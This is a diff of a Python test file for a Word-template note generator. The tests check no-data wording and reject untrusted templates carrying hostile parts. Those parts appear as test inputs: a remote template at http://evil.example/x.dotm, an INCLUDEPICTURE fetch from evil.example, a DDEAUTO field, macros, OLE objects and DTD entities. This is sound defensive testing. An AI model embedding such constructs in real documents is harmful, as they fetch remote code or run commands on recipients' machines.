@@ -9,6 +9,7 @@ import subprocess
 import sys
 import time
 import zipfile
+from dataclasses import replace
 from functools import cache
 from io import BytesIO
 from pathlib import Path
@@ -245,6 +246,38 @@ def test_the_note_says_what_the_results_say(name: str) -> None:
     assert listed.count(" при цели ") == len(missed)
 
 
+def test_a_note_without_data_judges_nothing_and_its_tips_say_their_year() -> None:
+    context = real_page("berezniki")
+    (place,) = context["places"]
+    empty = {"status": "no_data", "value": None, "change": None, "same_reporters": False}
+    lines = [
+        replace(
+            line,
+            cells=tuple(
+                replace(cell, fact=cell.fact and replace(cell.fact, **empty)) for cell in line.cells
+            ),
+        )
+        for section in place.groups
+        for line in section.lines
+    ]
+    groups = (replace(place.groups[0], lines=tuple(lines)),)
+    key = (place.level, place.id)
+    old = replace(context["advice"][key][0], year=min(context["years"]))
+    new = replace(old, year=max(context["years"]))
+    tips = {**context["advice"], key: (old, new)}
+    page = press(
+        "note.docx",
+        {**context, "places": (replace(place, groups=groups),), "advice": tips},
+        shown("berezniki").catalogue,
+    )
+    text = "\n".join(paragraphs(page))
+    assert "цель по которым не достигнута, нет" not in text
+    assert "Достигнуты ли цели, сказать нельзя" in text
+    assert "нет данных ни по одному" in text
+    assert "не от тех же школ" not in text
+    assert f"{old.text} ({old.year} год)\n{new.text}\n" in text
+
+
 @pytest.mark.parametrize("name", ["berezniki", "michurinsk"])
 def test_a_school_sees_itself_and_no_other_school(name: str) -> None:
     known = shown(name)
@@ -444,6 +477,93 @@ def test_what_is_no_document_is_told(tmp_path: Path) -> None:
         packed.writestr("word/document.xml", b"0" * 80_000_000)
     assert path.stat().st_size < LARGEST
     assert "слишком много" in failure(path).message
+
+
+_BOUND = (
+    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
+)
+_OUTSIDE = ' TargetMode="External"'
+
+
+def change_part(goal: Path, part: str, before: str, after: str) -> Path:
+    """A copy of the note with one part changed: where it is not there, it is added."""
+    with zipfile.ZipFile(find_template("note.docx").path) as source:
+        held = {one.filename: source.read(one) for one in source.infolist()}
+    old = held.get(part, before.encode())
+    assert before.encode() in old
+    held[part] = old.replace(before.encode(), after.encode(), 1)
+    with zipfile.ZipFile(goal, "w") as packed:
+        for name, content in held.items():
+            packed.writestr(name, content)
+    return goal
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "mode", "words"),
+    [
+        ("attachedTemplate", "http://evil.example/x.dotm", _OUTSIDE, "http://evil.example/x.dotm"),
+        ("image", "http://evil.example/x.png", _OUTSIDE, "вне его"),
+        ("attachedTemplate", "other.dotm", "", "вне его"),
+        ("aFChunk", "other.html", "", "другой документ"),
+        ("vbaProject", "project.bin", "", "макросы"),
+        ("oleObject", "embeddings/one.bin", "", "объект другой программы"),
+    ],
+)
+def test_a_template_of_a_stranger_is_bound_to_nothing_outside(
+    tmp_path: Path, kind: str, target: str, mode: str, words: str
+) -> None:
+    bound = _BOUND.format(kind=kind, target=target, mode=mode)
+    part = "word/_rels/document.xml.rels"
+    found = failure(change_part(tmp_path / "x.docx", part, "</Relationships>", bound))
+    assert (found.code, str(found.position)) == ("template-syntax", str(tmp_path / "x.docx"))
+    assert words in found.message
+
+
+def test_a_template_of_a_stranger_may_have_links(tmp_path: Path) -> None:
+    bound = _BOUND.format(kind="hyperlink", target="https://example.org/", mode=_OUTSIDE)
+    part = "word/_rels/document.xml.rels"
+    assert press(change_part(tmp_path / "x.docx", part, "</Relationships>", bound))
+
+
+@pytest.mark.parametrize(
+    ("part", "before", "after", "words"),
+    [
+        (
+            "word/document.xml",
+            "?>",
+            '?><!DOCTYPE x [<!ENTITY a "b">]>',
+            "word/document.xml» есть DTD",
+        ),
+        ("word/vbaProject.bin", "", "x", "макросы"),
+        (
+            *(
+                "[Content_Types].xml",
+                "openxmlformats-officedocument.wordprocessingml.document.main",
+            ),
+            *("ms-word.document.macroEnabled.main", "макросы"),
+        ),
+        (
+            *("word/document.xml", "<w:body>"),
+            '<w:body><w:p><w:fldSimple w:instr=" includepicture http://evil.example/x.png"/></w:p>',
+            "includepicture",
+        ),
+        (
+            *("word/document.xml", "<w:body>"),
+            (
+                '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+                "{{ 'DDE' }}AUTO c:\\x</w:instrText></w:r></w:p>"
+            ),
+            "DDEAUTO",
+        ),
+    ],
+)
+def test_a_template_of_a_stranger_holds_nothing_that_works_by_itself(
+    tmp_path: Path, part: str, before: str, after: str, words: str
+) -> None:
+    found = failure(change_part(tmp_path / "x.docx", part, before, after))
+    assert found.code == "template-syntax"
+    assert words in found.message
 
 
 def test_a_document_that_takes_too_much_is_stopped(tmp_path: Path) -> None:
